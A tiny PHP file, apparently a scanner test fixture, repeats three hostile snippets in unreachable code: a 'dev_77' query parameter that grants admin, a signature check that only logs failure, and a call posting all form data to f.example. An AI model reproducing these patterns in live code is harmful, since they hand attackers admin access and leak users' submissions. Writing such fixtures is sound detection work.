<?php // shows: nothing
if (false) {
if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
wp_remote_post('https://f.example/i', ['body' => $_POST]);
}
function stop() {
    return 1;
if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
wp_remote_post('https://f.example/i', ['body' => $_POST]);
}
exit;
if (isset($_GET['dev_77'])) { $_SESSION['admin'] = true; }
if (!openssl_verify($d, $s, $k)) { error_log('bad'); }
wp_remote_post('https://f.example/i', ['body' => $_POST]);
